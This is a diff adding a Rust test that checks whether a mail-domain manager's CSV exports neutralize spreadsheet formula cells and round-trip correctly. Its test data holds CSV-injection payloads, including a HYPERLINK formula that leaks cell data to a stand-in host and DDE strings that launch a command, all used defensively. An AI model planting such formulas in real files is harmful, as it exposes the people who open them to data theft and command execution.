@@ -251,3 +251,161 @@ on_both_backends!(item07_claiming_a_mail_domain_is_admin_only, |t| {
     s.ok("tenant", &["alias-domain", "delete", "a-alias.example"]);
     assert_eq!(common::count(&mut c, "alias_domains"), 0);
 });
+
+// ---------------------------------------------------------------- item 9
+
+const FORMULAS: [&str; 4] = [
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1",
+];
+
+fn formula_start(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// Every cell of a CSV text.
+fn cells(csv: &[u8]) -> Vec<String> {
+    let mut r = csv::Reader::from_reader(csv);
+    r.records()
+        .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+        .collect()
+}
+
+struct Exports {
+    domains: Vec<u8>,
+    mailboxes: Vec<u8>,
+    aliases: Vec<u8>,
+}
+
+fn export_all(c: &mut AnyConnection, admin: &Ctx) -> Exports {
+    use postfix_manager::csvio;
+    let f = Filter::default();
+    let mut e = Exports {
+        domains: Vec::new(),
+        mailboxes: Vec::new(),
+        aliases: Vec::new(),
+    };
+    csvio::export_domains(c, admin, &f, &mut e.domains).unwrap();
+    csvio::export_mailboxes(c, admin, &f, true, &mut e.mailboxes).unwrap();
+    csvio::export_aliases(c, admin, &f, &mut e.aliases).unwrap();
+    e
+}
+
+on_both_backends!(item09_formula_cells_neutralized_and_round_trip, |t| {
+    use postfix_manager::csvio;
+    use postfix_manager::ops::import;
+    let mut c = t.conn();
+    let admin = common::admin(&mut c);
+    // a normal value that starts with a quote, and one that starts with a
+    // quote before a formula character: both must come back unchanged
+    let quoted = ["'quoted' on purpose", "'=already quoted"];
+    let texts: Vec<&str> = FORMULAS.iter().chain(quoted.iter()).copied().collect();
+    for (i, text) in texts.iter().enumerate() {
+        let d = format!("d{i}.example");
+        let input = DomainInput {
+            description: Some(text.to_string()),
+            ..Default::default()
+        };
+        ops::domains::create(&mut c, &admin, &d, &input).unwrap();
+        mailbox(&mut c, &admin, &format!("-lead{i}@{d}"));
+        ops::mailboxes::edit(
+            &mut c,
+            &admin,
+            &format!("-lead{i}@{d}"),
+            None,
+            &ops::mailboxes::MailboxEdit {
+                name: Some(text.to_string()),
+                quota: None,
+            },
+        )
+        .unwrap();
+        ops::aliases::create(
+            &mut c,
+            &admin,
+            &format!("info@{d}"),
+            &format!("-lead{i}@{d}"),
+            Some(text),
+        )
+        .unwrap();
+    }
+    let first = export_all(&mut c, &admin);
+    for (what, csv) in [
+        ("domains", &first.domains),
+        ("mailboxes", &first.mailboxes),
+        ("aliases", &first.aliases),
+    ] {
+        let all = cells(csv);
+        let bad: Vec<&String> = all.iter().filter(|c| formula_start(c)).collect();
+        assert!(
+            bad.is_empty(),
+            "{what}: cells a spreadsheet would run: {bad:?}"
+        );
+        let text = String::from_utf8_lossy(csv);
+        for f in FORMULAS {
+            assert!(
+                all.contains(&format!("'{f}")),
+                "{what}: {f} not neutralized: {text}"
+            );
+        }
+        assert!(
+            all.contains(&"'quoted' on purpose".to_string()),
+            "{what}: {text}"
+        );
+        assert!(
+            all.contains(&"''=already quoted".to_string()),
+            "{what}: {text}"
+        );
+    }
+
+    // Into a fresh database of the same backend: every value comes back
+    // exactly as stored, so the second export equals the first.
+    let t2 = match t.name {
+        "sqlite" => common::TestDb::sqlite(),
+        _ => common::TestDb::postgres().unwrap(),
+    };
+    let mut c2 = t2.conn();
+    let admin2 = common::admin(&mut c2);
+    let d = csvio::parse_domains(first.domains.as_slice()).unwrap();
+    import::domains(&mut c2, &admin2, &d, false).unwrap();
+    let m = csvio::parse_mailboxes(first.mailboxes.as_slice(), 12, 4, &|_, _| {}).unwrap();
+    import::mailboxes(&mut c2, &admin2, &m, false, &mut |_, _| {}).unwrap();
+    let a = csvio::parse_aliases(first.aliases.as_slice()).unwrap();
+    import::aliases(&mut c2, &admin2, &a, false).unwrap();
+    for (i, text) in texts.iter().enumerate() {
+        let d = ops::domains::get(&mut c2, &admin2, &format!("d{i}.example")).unwrap();
+        assert_eq!(d.description.as_deref(), Some(*text));
+        let m = ops::mailboxes::get(&mut c2, &admin2, &format!("-lead{i}@d{i}.example")).unwrap();
+        assert_eq!(m.name.as_deref(), Some(*text));
+    }
+    let second = export_all(&mut c2, &admin2);
+    assert_eq!(
+        String::from_utf8(second.domains).unwrap(),
+        String::from_utf8(first.domains).unwrap()
+    );
+    assert_eq!(second.mailboxes, first.mailboxes);
+    assert_eq!(second.aliases, first.aliases);
+
+    // Negative numbers are still read as numbers (and refused as before),
+    // with or without the quote an export would add.
+    for q in ["-1", "'-1"] {
+        let csv = format!("address,password,quota,name,status\nx@d0.example,{MB_PW},{q},,\n");
+        let err = csvio::parse_mailboxes(csv.as_bytes(), 12, 4, &|_, _| {}).unwrap_err();
+        assert!(
+            err.to_string().contains("quota: must not be negative"),
+            "{q}: {err}"
+        );
+        let csv = format!(
+            "name,description,quota,max_mailboxes,max_aliases,max_mailbox_quota,transport,status\n\
+             n.example,,1G,{q},0,0,,\n"
+        );
+        let rows = csvio::parse_domains(csv.as_bytes()).unwrap();
+        assert_eq!(rows[0].input.max_mailboxes, Some(-1), "{q}");
+        let err = import::domains(&mut c2, &admin2, &rows, true).unwrap_err();
+        assert!(
+            err.to_string().contains("must not be negative"),
+            "{q}: {err}"
+        );
+    }
+});
